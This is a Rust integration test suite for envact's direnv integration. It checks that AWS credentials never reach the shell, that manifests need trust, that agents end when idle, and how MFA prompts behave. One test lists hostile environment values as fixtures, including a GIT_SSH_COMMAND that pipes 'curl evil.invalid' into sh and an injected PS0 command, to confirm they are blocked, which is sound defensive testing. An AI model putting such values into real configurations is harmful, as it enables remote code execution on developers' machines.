//! A team that lives in direnv writes `use envact` in its `.envrc`: entering
//! the project brings the environment, leaving it takes it away, and no
//! credential ever sits in the shell, in direnv's export or in DIRENV_DIFF.
//! Real direnv hooked into bash and zsh on a pseudo-terminal, the real AWS
//! CLI, moto's STS behind the logging endpoint, the long-term keys in pass.

use crate::support;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use support::pass_store::PassStore;
use support::secret_service::SecretService;
use support::sts::{Endpoint, Moto};
use support::{
    eventually, keys_input, run, run_with_stdin, spawn_pty, stderr, stdout, which, PtySession,
    Sandbox, ACCESS_KEY_ID, SECRET_ACCESS_KEY,
};

const ROLE: &str = "arn:aws:sts::123456789012:assumed-role/direnv-role/envact-";

fn manifest(aws: &str, persistence: &str) -> String {
    format!(
        "version = 1\nname = \"team\"\n[vars]\nAWS_DEFAULT_REGION = \"us-east-1\"\nGREETING = \"hi there\"\n\
         [secrets]\nbackend = \"pass\"\nvault = \"aws\"\nitem = \"dev\"\n\
         [aws]\nrole_arn = \"arn:aws:iam::123456789012:role/direnv-role\"\n{aws}\n\
         [persistence]\n{persistence}\n\
         [hook]\non-activate = \"echo hook-ran >> \\\"$HOME/hook.log\\\"\"\n"
    )
}

struct Project {
    sb: Sandbox,
    _moto: Moto,
    endpoint: Endpoint,
    pass: PassStore,
    keyring: Option<SecretService>,
}

impl Project {
    /// A project with `use envact` in its `.envrc`, allowed and trusted.
    fn new(aws: &str, persistence: &str) -> Project {
        Project::build(aws, persistence, false)
    }

    /// `keyring`: a Secret Service runs (for the session cache).
    fn build(aws: &str, persistence: &str, keyring: bool) -> Project {
        let sb = Sandbox::with_manifest(&manifest(aws, persistence));
        let keyring = keyring.then(|| SecretService::start(&sb));
        let moto = Moto::start(&sb);
        let endpoint = Endpoint::start(&sb, &moto, "proxy");
        let pass = PassStore::init(&sb);
        let p = Project {
            sb,
            _moto: moto,
            endpoint,
            pass,
            keyring,
        };
        // The long-term keys in pass (encrypted): nothing to find in a scan.
        let added = run_with_stdin(p.envact(&["add", "dev", "--stdin"]), &keys_input());
        assert!(added.status.success(), "{}", stderr(&added));
        p.sb.use_envact_in_direnv();
        p.direnv_allow();
        let trusted = run(p.envact(&["trust"]));
        assert!(trusted.status.success(), "{}", stderr(&trusted));
        p
    }

    fn env(&self, cmd: &mut Command) {
        self.sb.apply_env(cmd);
        self.pass.apply(cmd);
        if let Some(keyring) = &self.keyring {
            keyring.apply(cmd);
        }
        cmd.env("AWS_ENDPOINT_URL_STS", &self.endpoint.url)
            .env("AWS_REGION", "us-east-1");
    }

    fn envact(&self, args: &[&str]) -> Command {
        let mut cmd = Command::new(support::envact_bin());
        self.env(&mut cmd);
        cmd.args(args);
        cmd
    }

    fn direnv_allow(&self) {
        let mut cmd = Command::new("direnv");
        self.env(&mut cmd);
        cmd.arg("allow").arg(&self.sb.project);
        let out = run(cmd);
        assert!(out.status.success(), "{}", stderr(&out));
    }

    /// `shell` (bash or zsh) with direnv hooked in, outside the project.
    fn shell(&self, shell: &str) -> PtySession {
        let mut cmd = Command::new(which(shell));
        self.env(&mut cmd);
        cmd.current_dir(&self.sb.root).env("PS1", "outer$ ");
        match shell {
            "zsh" => cmd.args(["-f", "-i"]),
            _ => cmd.args(["--norc", "--noprofile", "-i"]),
        };
        let mut p = spawn_pty(cmd);
        p.exp_string("outer$ ").unwrap();
        p.send_line(&format!("eval \"$(direnv hook {shell})\""))
            .unwrap();
        p.exp_string("outer$ ").unwrap();
        p
    }

    fn enter(&self, p: &mut PtySession) {
        p.send_line(&format!("cd {}", self.sb.project.display()))
            .unwrap();
        p.exp_string("direnv: export").unwrap();
        p.exp_string("outer$ ").unwrap();
    }

    /// The directory of the environment's background agent.
    fn agent_dir(&self) -> PathBuf {
        let base = std::fs::read_dir(&self.sb.runtime)
            .unwrap()
            .flatten()
            .find(|e| {
                e.file_name()
                    .to_string_lossy()
                    .starts_with("envact-direnv-")
            })
            .expect("the environment's directory")
            .path();
        std::fs::read_dir(base)
            .unwrap()
            .flatten()
            .next()
            .unwrap()
            .path()
    }

    /// No long-term key, nor any of `more`, in a file under HOME, the XDG
    /// dirs or the temp dir.
    fn assert_nothing_leaked(&self, more: &[&str]) {
        let mut values = vec![ACCESS_KEY_ID, SECRET_ACCESS_KEY];
        values.extend(more);
        let leaked = self.files_holding(&values);
        assert!(leaked.is_empty(), "credentials in {leaked:?}");
    }

    /// Files under HOME, the XDG dirs (inside HOME or the runtime dir) and
    /// the temp dir that hold any of `values`.
    fn files_holding(&self, values: &[&str]) -> Vec<PathBuf> {
        let mut found = Vec::new();
        for dir in [&self.sb.home, &self.sb.runtime, &self.sb.root.join("tmp")] {
            found.extend(support::files_containing(dir, values, &[]));
        }
        found
    }
}

/// Runs `line` and waits until it is done (a marker the typed line itself
/// does not show: the terminal echoes what is typed).
fn type_line(p: &mut PtySession, line: &str) {
    static N: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
    let n = N.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    p.send_line(&format!("{line}; echo \"do\"\"ne-{n}\""))
        .unwrap();
    p.exp_string(&format!("done-{n}")).unwrap();
}

/// `printenv NAME` through a shim: the value the wrapped command got.
fn wrapped_value(p: &mut PtySession, name: &str) -> String {
    p.send_line(&format!("printenv {name} | sed 's/^/got=[/; s/$/]/'"))
        .unwrap();
    let (_, line) = p.exp_regex(r"got=\[[^\]\r\n]+\]").unwrap();
    line["got=[".len()..line.len() - 1].to_string()
}

#[test]
fn entering_the_project_brings_its_environment_with_no_credential_in_the_shell() {
    for shell in ["bash", "zsh"] {
        let e = Project::new("wrap = [\"aws\", \"printenv\"]", "agent_idle = \"60s\"");
        let mut p = e.shell(shell);
        let outside = e.sb.root.join("outside");
        type_line(&mut p, &format!("echo \"$PATH\" > {}", outside.display()));
        e.enter(&mut p);

        p.send_line("echo \"g=[$GREETING] e=[$ENVACT_ENV]\"")
            .unwrap();
        p.exp_string("g=[hi there] e=[team]").unwrap();
        p.send_line("aws sts get-caller-identity --output text --query Arn")
            .unwrap();
        p.exp_string(ROLE).unwrap();
        // What the wrapped command got: short-lived credentials.
        let token = wrapped_value(&mut p, "AWS_SESSION_TOKEN");
        let key_id = wrapped_value(&mut p, "AWS_ACCESS_KEY_ID");
        assert_ne!(
            key_id, ACCESS_KEY_ID,
            "{shell}: the long-term key reached a command"
        );
        // The real `aws` (past the shim on PATH) has no credentials of its own.
        p.send_line(&format!(
            "{} sts get-caller-identity",
            which("aws").display()
        ))
        .unwrap();
        p.exp_string("Unable to locate credentials").unwrap();

        // The shell's environment, direnv's export and DIRENV_DIFF decoded.
        let seen = e.sb.root.join("seen");
        type_line(
            &mut p,
            &format!(
                "{{ env; direnv export bash; python3 -c 'import os,zlib,base64; d=os.environ[\"DIRENV_DIFF\"]; print(zlib.decompress(base64.urlsafe_b64decode(d + \"=\" * (-len(d) % 4))).decode())'; }} > {} 2>&1",
                seen.display()
            ),
        );
        let seen_text = std::fs::read_to_string(&seen).unwrap();
        assert!(seen_text.contains("GREETING"), "{shell}: {seen_text}");
        for secret in [ACCESS_KEY_ID, SECRET_ACCESS_KEY, &token, &key_id] {
            assert!(
                !seen_text.contains(secret),
                "{shell}: a credential in {seen_text}"
            );
        }
        for name in [
            "AWS_SECRET_ACCESS_KEY",
            "AWS_SESSION_TOKEN",
            "AWS_ACCESS_KEY_ID",
        ] {
            assert!(!seen_text.contains(name), "{shell}: {name} exported");
        }
        std::fs::remove_file(&seen).unwrap();

        // Leaving: the variables go, PATH is as it was.
        type_line(&mut p, "cd ..");
        let left = e.sb.root.join("left");
        type_line(
            &mut p,
            &format!(
                "echo \"$PATH\" > {}; echo \"g=[${{GREETING-absent}}]\"",
                left.display()
            ),
        );
        assert_eq!(
            std::fs::read_to_string(&left).unwrap(),
            std::fs::read_to_string(&outside).unwrap(),
            "{shell}: PATH after leaving"
        );
        p.send_line("echo \"g=[${GREETING-absent}]\"").unwrap();
        p.exp_string("g=[absent]").unwrap();

        let log = std::fs::read_to_string(e.sb.home.join("hook.log")).unwrap();
        assert_eq!(log, "hook-ran\n", "{shell}: the hook runs once per load");
        let stopped = run(e.envact(&["stop"]));
        assert!(
            stderr(&stopped).contains("stopped the background agent"),
            "{}",
            stderr(&stopped)
        );
        e.assert_nothing_leaked(&[&token, &key_id]);
        p.send_line("exit").unwrap();
        p.exp_eof().unwrap();
    }
}

#[test]
fn an_edited_manifest_reloads_and_an_untrusted_one_exports_nothing() {
    let e = Project::new("wrap = [\"aws\"]", "agent_idle = \"60s\"");
    let mut p = e.shell("bash");
    e.enter(&mut p);
    p.send_line("echo \"g=[$GREETING]\"").unwrap();
    p.exp_string("g=[hi there]").unwrap();
    // Loaded by direnv, it is active: activating inside it is named as such.
    p.send_line("envact activate -- true").unwrap();
    p.exp_string("already inside the envact environment \"team\"")
        .unwrap();
    p.exp_string("loaded by direnv").unwrap();

    // Changed content is not trusted: direnv loads nothing of it.
    let path = e.sb.project.join(".envact/manifest.toml");
    let text = std::fs::read_to_string(&path).unwrap();
    std::thread::sleep(Duration::from_millis(1100));
    std::fs::write(&path, text.replace("hi there", "hello again")).unwrap();
    p.send_line("true").unwrap();
    p.exp_string("has changed since you trusted it").unwrap();
    p.exp_string(&format!("envact trust -d {}", e.sb.project.display()))
        .unwrap();
    p.exp_string("outer$ ").unwrap();
    p.send_line("echo \"g=[${GREETING-absent}]\"").unwrap();
    p.exp_string("g=[absent]").unwrap();

    // Trusted, it loads again at the next prompt. (direnv compares
    // modification times in whole seconds: a person never trusts within
    // the second of the first trust, this test might.)
    std::thread::sleep(Duration::from_millis(1100));
    let trusted = run(e.envact(&["trust"]));
    assert!(trusted.status.success(), "{}", stderr(&trusted));
    p.send_line("true").unwrap();
    p.exp_string("direnv: export").unwrap();
    p.send_line("echo \"g=[$GREETING]\"").unwrap();
    p.exp_string("g=[hello again]").unwrap();
    e.assert_nothing_leaked(&[]);
    p.send_line("exit").unwrap();
    p.exp_eof().unwrap();
}

#[test]
fn the_background_agent_ends_when_idle_and_leaves_no_socket() {
    let e = Project::new("wrap = [\"aws\"]", "agent_idle = \"2s\"");
    let mut p = e.shell("bash");
    e.enter(&mut p);
    p.send_line("aws sts get-caller-identity --output text --query Arn")
        .unwrap();
    p.exp_string(ROLE).unwrap();
    let socket = e.agent_dir().join("agent.sock");
    assert!(socket.exists(), "the agent listens");
    // A second command asks the agent: no new STS call.
    let calls = e.endpoint.actions().len();
    p.send_line("aws sts get-caller-identity --output text --query Arn")
        .unwrap();
    p.exp_string(ROLE).unwrap();
    let asked = e.endpoint.actions();
    assert_eq!(
        asked[calls..]
            .iter()
            .filter(|a| *a != "GetCallerIdentity")
            .count(),
        0,
        "{asked:?}"
    );
    eventually(Duration::from_secs(15), "the idle agent ends", || {
        !socket.exists()
    });
    assert!(!agent_running(&e.sb.project), "an agent process is left");
    // The next command starts it again.
    p.send_line("aws sts get-caller-identity --output text --query Arn")
        .unwrap();
    p.exp_string(ROLE).unwrap();
    assert!(socket.exists());
    // `envact clear` ends it too.
    let cleared = run(e.envact(&["clear"]));
    assert!(
        stderr(&cleared).contains("stopped the background agent"),
        "{}",
        stderr(&cleared)
    );
    assert!(!socket.exists());
    e.assert_nothing_leaked(&[]);
    p.send_line("exit").unwrap();
    p.exp_eof().unwrap();
}

#[test]
fn server_mode_works_with_the_aws_cli_and_exports_only_a_token_file() {
    let e = Project::new("inject = \"server\"", "agent_idle = \"60s\"");
    let mut p = e.shell("bash");
    e.enter(&mut p);
    p.send_line("aws sts get-caller-identity --output text --query Arn")
        .unwrap();
    p.exp_string(ROLE).unwrap();
    p.send_line("echo \"file=[${AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE:+set}] token=[${AWS_CONTAINER_AUTHORIZATION_TOKEN-absent}]\"")
        .unwrap();
    p.exp_string("file=[set] token=[absent]").unwrap();
    let token_file = e.agent_dir().join("ecs.token");
    let token = std::fs::read_to_string(&token_file).unwrap();
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&token_file).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    let seen = e.sb.root.join("seen");
    type_line(
        &mut p,
        &format!("{{ env; direnv export bash; }} > {} 2>&1", seen.display()),
    );
    assert!(!std::fs::read_to_string(&seen).unwrap().contains(&token));
    assert!(run(e.envact(&["stop"])).status.success());
    assert!(!token_file.exists(), "the token outlived the agent");
    p.send_line("exit").unwrap();
    p.exp_eof().unwrap();
    e.assert_nothing_leaked(&[&token]);
}

#[test]
fn in_server_mode_an_mfa_code_reaches_the_agent_through_envact_exec() {
    let e = Project::new(
        "inject = \"server\"\nmfa_serial = \"arn:aws:iam::123456789012:mfa/tester\"",
        "agent_idle = \"60s\"",
    );
    let mut p = e.shell("bash");
    e.enter(&mut p);
    // An SDK cannot type a code: the agent says one is needed.
    p.send_line(
        "aws sts get-caller-identity --output text --query Arn 2>&1 | grep -c -i credentials | sed 's/^/lines=/'",
    )
    .unwrap();
    p.exp_regex(r"lines=[1-9]").unwrap();
    p.send_line("envact exec -- true && echo \"ex\"\"ec-ok\"")
        .unwrap();
    p.exp_string("MFA code for arn:aws:iam::123456789012:mfa/tester")
        .unwrap();
    p.send_line("123456").unwrap();
    p.exp_string("exec-ok").unwrap();
    // Now the agent holds a session: the SDK gets the role.
    p.send_line("aws sts get-caller-identity --output text --query Arn")
        .unwrap();
    p.exp_string(ROLE).unwrap();
    assert!(run(e.envact(&["stop"])).status.success());
    e.assert_nothing_leaked(&[]);
    p.send_line("exit").unwrap();
    p.exp_eof().unwrap();
}

#[test]
fn a_team_template_loads_once_trusted_and_a_pull_reloads_it() {
    let e = Project::new("wrap = [\"aws\"]", "agent_idle = \"60s\"");
    // The team's template in a plain-directory registry.
    let shared = e.sb.root.join("shared-envs");
    let template = shared.join("aws/manifest.toml");
    std::fs::create_dir_all(template.parent().unwrap()).unwrap();
    let text = manifest("wrap = [\"aws\"]", "agent_idle = \"60s\"")
        .replace("name = \"team\"", "name = \"aws\"");
    std::fs::write(&template, &text).unwrap();
    let added = run(e.envact(&["registry", "add", "local", shared.to_str().unwrap()]));
    assert!(added.status.success(), "{}", stderr(&added));
    let dir = e.sb.root.join("team-project");
    let init = run(e.envact(&[
        "init",
        "--direnv",
        "-r",
        "local/aws",
        "-d",
        dir.to_str().unwrap(),
    ]));
    assert!(init.status.success(), "{}", stderr(&init));
    let mut allow = Command::new("direnv");
    e.env(&mut allow);
    allow.arg("allow").arg(&dir);
    assert!(run(allow).status.success());

    // Untrusted: nothing of it is exported, and the command to run is named.
    let mut p = e.shell("bash");
    p.send_line(&format!("cd {}", dir.display())).unwrap();
    p.exp_string("the template local/aws is not trusted yet")
        .unwrap();
    p.exp_string("envact trust -r local/aws").unwrap();
    p.exp_string("outer$ ").unwrap();
    p.send_line("echo \"g=[${GREETING-absent}]\"").unwrap();
    p.exp_string("g=[absent]").unwrap();
    assert!(
        !e.sb.home.join("hook.log").exists(),
        "an untrusted hook ran"
    );

    // Trusted: the next prompt loads it, and a wrapped aws has the role.
    std::thread::sleep(Duration::from_millis(1100));
    let trusted = run(e.envact(&["trust", "-r", "local/aws"]));
    assert!(trusted.status.success(), "{}", stderr(&trusted));
    p.send_line("true").unwrap();
    p.exp_string("direnv: export").unwrap();
    p.send_line("echo \"g=[$GREETING] e=[$ENVACT_ENV]\"")
        .unwrap();
    p.exp_string("g=[hi there] e=[aws]").unwrap();
    p.send_line("aws sts get-caller-identity --output text --query Arn")
        .unwrap();
    p.exp_string(ROLE).unwrap();

    // A pull moves the pin, which direnv watches: the changed template
    // is not trusted yet, so the next prompt unloads it.
    std::thread::sleep(Duration::from_millis(1100));
    std::fs::write(&template, text.replace("hi there", "hello team")).unwrap();
    assert!(run(e.envact(&["pull", "-r", "local/aws"])).status.success());
    p.send_line("true").unwrap();
    p.exp_string("has changed since you trusted it").unwrap();
    p.exp_string("outer$ ").unwrap();
    p.send_line("echo \"g=[${GREETING-absent}]\"").unwrap();
    p.exp_string("g=[absent]").unwrap();
    std::thread::sleep(Duration::from_millis(1100));
    assert!(run(e.envact(&["trust", "-r", "local/aws"]))
        .status
        .success());
    p.send_line("true").unwrap();
    p.exp_string("direnv: export").unwrap();
    p.send_line("echo \"g=[$GREETING]\"").unwrap();
    p.exp_string("g=[hello team]").unwrap();
    assert!(run(e.envact(&["stop", "-r", "local/aws"])).status.success());
    e.assert_nothing_leaked(&[]);
    p.send_line("exit").unwrap();
    p.exp_eof().unwrap();
}

#[test]
fn a_background_agent_that_cannot_start_says_why_at_once() {
    let e = Project::new("inject = \"server\"", "");
    // Only the agent reads ~/.aws/config: what `use envact` exports needs
    // none of it.
    std::fs::create_dir_all(e.sb.home.join(".aws")).unwrap();
    std::fs::write(
        e.sb.home.join(".aws/config"),
        "[default]\nregion : eu-west-1\n",
    )
    .unwrap();
    let started = std::time::Instant::now();
    let out = run(e.envact(&["direnv-load"]));
    let err = support::assert_fails(
        &out,
        1,
        &[
            "the environment's background agent could not start",
            &format!(
                "{}, line 2 is not valid in an AWS config file",
                e.sb.home.join(".aws/config").display()
            ),
            "help: fix that line",
            "the agent's log: ",
        ],
    );
    assert!(
        started.elapsed() < Duration::from_secs(8),
        "waited for the agent's deadline: {err}"
    );
    // Fixed, the next load starts it, and its log is gone with it.
    std::fs::write(
        e.sb.home.join(".aws/config"),
        "[default]\nregion = eu-west-1\n",
    )
    .unwrap();
    let out = run(e.envact(&["direnv-load"]));
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(run(e.envact(&["stop"])).status.success());
    assert!(!e.agent_dir().join("agent.log").exists());
    e.assert_nothing_leaked(&[]);
}

#[test]
fn shell_mode_is_refused_under_direnv_saying_why() {
    let e = Project::new("inject = \"shell\"", "");
    let out = run(e.envact(&["direnv-load"]));
    support::assert_fails(
        &out,
        1,
        &[
            "inject = \"shell\" cannot work under direnv",
            "DIRENV_DIFF",
            "per-command",
        ],
    );
    // Only what to watch, so that a fixed manifest loads: nothing exported.
    assert!(!stdout(&out).contains("export "), "{}", stdout(&out));
    assert!(stdout(&out).contains("watch_file "), "{}", stdout(&out));
}

#[test]
fn the_background_agent_asks_for_mfa_on_the_terminal_of_the_command_that_needs_it() {
    // Session and role live an hour, inside a margin of an hour: what the
    // agent holds counts as expired, so it needs a code for each session.
    let e = Project::new(
        "mfa_serial = \"arn:aws:iam::123456789012:mfa/tester\"\nsession_duration = \"1h\"\nrefresh_margin = \"1h\"\nwrap = [\"aws\"]",
        "agent_idle = \"60s\"",
    );
    let mut p = e.shell("bash");
    e.enter(&mut p);
    // No agent yet: the command resolves them itself, asking here.
    p.send_line("aws sts get-caller-identity --output text --query Arn")
        .unwrap();
    p.exp_string("MFA code for arn:aws:iam::123456789012:mfa/tester")
        .unwrap();
    p.send_line("123456").unwrap();
    p.exp_string(ROLE).unwrap();
    // The agent runs now; its session is spent: it asks through the command.
    p.send_line("aws sts get-caller-identity --output text --query Arn")
        .unwrap();
    p.exp_string("The session expired. MFA code for arn:aws:iam::123456789012:mfa/tester")
        .unwrap();
    p.send_line("654321").unwrap();
    p.exp_string(ROLE).unwrap();
    let sessions = e
        .endpoint
        .actions()
        .iter()
        .filter(|a| *a == "GetSessionToken")
        .count();
    assert_eq!(sessions, 2);
    assert!(run(e.envact(&["stop"])).status.success());
    e.assert_nothing_leaked(&[]);
    p.send_line("exit").unwrap();
    p.exp_eof().unwrap();
}

#[test]
fn with_the_keyring_session_cache_a_new_agent_starts_from_the_cache() {
    let e = Project::build(
        "wrap = [\"aws\"]",
        "sts_session = true\nagent_idle = \"60s\"",
        true,
    );
    let mut p = e.shell("bash");
    e.enter(&mut p);
    p.send_line("aws sts get-caller-identity --output text --query Arn")
        .unwrap();
    p.exp_string(ROLE).unwrap();
    assert!(run(e.envact(&["stop"])).status.success());
    let calls = e.endpoint.actions().len();
    // A new agent: the session comes from the keyring, not from STS.
    p.send_line("aws sts get-caller-identity --output text --query Arn")
        .unwrap();
    p.exp_string(ROLE).unwrap();
    let asked = e.endpoint.actions();
    assert!(
        asked[calls..].iter().all(|a| a == "GetCallerIdentity"),
        "{asked:?}"
    );
    assert!(run(e.envact(&["stop"])).status.success());
    e.assert_nothing_leaked(&[]);
    p.send_line("exit").unwrap();
    p.exp_eof().unwrap();
}

#[test]
fn init_writes_the_envrc_and_a_profile_is_named_as_left_out() {
    let sb = Sandbox::new();
    let dir = sb.root.join("fresh");
    let d = dir.to_str().unwrap();
    let out = run(sb.envact(["init", "--template", "aws-pass", "--direnv", "-d", d]));
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(dir.join(".envact/manifest.toml").is_file());
    assert_eq!(
        std::fs::read_to_string(dir.join(".envrc")).unwrap(),
        "use envact\n"
    );
    assert!(
        stdout(&out).contains("envact hook direnv"),
        "{}",
        stdout(&out)
    );
    // An .envrc of the person's own gets the line once.
    std::fs::write(dir.join(".envrc"), "export FOO=1").unwrap();
    let again = || run(sb.envact(["init", "--direnv", "--force", "-d", d]));
    assert!(again().status.success());
    assert!(again().status.success());
    assert_eq!(
        std::fs::read_to_string(dir.join(".envrc")).unwrap(),
        "export FOO=1\nuse envact\n"
    );
    // A team's template: only the .envrc.
    let team = sb.root.join("team-project");
    let out = run(sb.envact([
        "init",
        "--direnv",
        "-r",
        "team/aws",
        "-d",
        team.to_str().unwrap(),
    ]));
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(team.join(".envrc")).unwrap(),
        "use envact -r 'team/aws'\n"
    );
    assert!(!team.join(".envact").exists());
    assert!(
        stdout(&out).contains("envact trust -r team/aws"),
        "{}",
        stdout(&out)
    );

    // [profile] is shell code: direnv cannot apply it, and says so.
    sb.write_manifest("version = 1\nname = \"p\"\n[profile]\ncommon = \"alias ll='ls -l'\"\n");
    let out = run(sb.envact(["direnv-load"]));
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("[profile] is shell code, which direnv cannot apply"),
        "{}",
        stderr(&out)
    );
}

/// Whether an `envact agent` runs in `project` (its working directory).
fn agent_running(project: &Path) -> bool {
    std::fs::read_dir("/proc").unwrap().flatten().any(|entry| {
        let cmdline = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
        let is_agent = cmdline.split(|b| *b == 0).nth(1) == Some(b"agent".as_slice());
        is_agent && std::fs::read_link(entry.path().join("cwd")).is_ok_and(|cwd| cwd == project)
    })
}

/// Under direnv, which loads without being asked, a local manifest that
/// sets any variable as dangerous as a hook needs trust: each one the
/// audit named stops the load (nothing of the manifest is exported) and
/// names `envact trust`, while plain data loads untrusted.
#[test]
fn a_local_manifest_that_sets_a_flagged_variable_loads_only_once_trusted() {
    let sb = Sandbox::with_manifest("version = 1\nname = \"team\"\n[vars]\nGREETING = \"hi\"\n");
    sb.use_envact_in_direnv();
    let direnv = |args: &[&str]| {
        let mut cmd = Command::new("direnv");
        sb.apply_env(&mut cmd);
        cmd.args(args);
        run(cmd)
    };
    let project = sb.project.to_str().unwrap();
    assert!(direnv(&["allow", project]).status.success());
    let printenv = |var: &str| direnv(&["exec", project, "printenv", var]);

    let out = printenv("GREETING");
    assert_eq!(stdout(&out), "hi\n", "{}", stderr(&out));
    for (name, value) in [
        ("PS0", "$(touch ~/pwned)"),
        ("LD_AUDIT", "./audit.so"),
        ("GCONV_PATH", "./gconv"),
        ("AWS_CONFIG_FILE", "./aws-config"),
        ("AWS_SHARED_CREDENTIALS_FILE", "./aws-credentials"),
        ("SSL_CERT_FILE", "./ca.pem"),
        ("NODE_OPTIONS", "--require ./x.js"),
        ("PYTHONPATH", "./lib"),
        ("GIT_SSH_COMMAND", "sh -c 'curl evil.invalid | sh'"),
    ] {
        sb.write_manifest(&format!(
            "version = 1\nname = \"team\"\n[vars]\nGREETING = \"hi\"\n{name} = {value:?}\n"
        ));
        let out = printenv("GREETING");
        let err = stderr(&out);
        assert_eq!(
            stdout(&out),
            "",
            "{name}: nothing of the manifest loads\n{err}"
        );
        assert!(
            err.contains("has a hook or a flagged variable and is not trusted yet")
                && err.contains(&format!("envact trust -d {project}")),
            "{name}: {err}"
        );
    }
    // Trusted, the last one loads.
    std::thread::sleep(Duration::from_millis(1100));
    let trusted = run(sb.envact(["trust"]));
    assert!(
        stderr(&trusted).contains("GIT_SSH_COMMAND = \"sh -c 'curl evil.invalid | sh'\"   <- flagged: names a program that is run"),
        "{}",
        stderr(&trusted)
    );
    let out = printenv("GIT_SSH_COMMAND");
    assert_eq!(
        stdout(&out),
        "sh -c 'curl evil.invalid | sh'\n",
        "{}",
        stderr(&out)
    );
}

/// Without `XDG_RUNTIME_DIR` the shims direnv puts first on PATH live in
/// the person's own cache, not at a predictable path in the shared temp
/// dir: once a temp cleaner removed that, another user (`nobody` here)
/// could make it theirs while the shell still had it on PATH.
#[test]
fn without_a_runtime_dir_the_shims_are_where_no_other_user_can_make_them() {
    if !support::can_act_as_nobody() {
        return;
    }
    use std::os::unix::fs::PermissionsExt;
    let sb = Sandbox::with_manifest(
        "version = 1\nname = \"team\"\n[secrets]\nbackend = \"env\"\n\
         [aws]\nrole_arn = \"arn:aws:iam::123456789012:role/direnv-role\"\nwrap = [\"aws\"]\n",
    );
    // A temp dir like /tmp: anyone may make a directory in it.
    let tmp = sb.root.join("tmp");
    std::fs::create_dir_all(&tmp).unwrap();
    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o1777)).unwrap();
    std::fs::set_permissions(&sb.root, std::fs::Permissions::from_mode(0o755)).unwrap();
    sb.use_envact_in_direnv();
    let direnv = |args: &[&str]| {
        let mut cmd = Command::new("direnv");
        sb.apply_env(&mut cmd);
        cmd.env_remove("XDG_RUNTIME_DIR").args(args);
        run(cmd)
    };
    let project = sb.project.to_str().unwrap();
    assert!(direnv(&["allow", project]).status.success());
    let out = direnv(&["exec", project, "printenv", "PATH"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let shims = PathBuf::from(stdout(&out).split(':').next().unwrap());
    assert!(shims.join("aws").exists(), "{shims:?} holds the aws shim");
    assert!(
        shims.starts_with(&sb.home),
        "the shims are in the person's own home: {shims:?}"
    );

    // Removed, as a temp cleaner would: `nobody` cannot make it again.
    std::fs::remove_dir_all(&shims).unwrap();
    let mut mkdir = support::as_nobody("/bin/mkdir");
    mkdir.arg("-p").arg(&shims);
    let made = run(mkdir);
    assert!(!made.status.success(), "nobody made {shims:?}");
    assert!(!shims.exists());
}
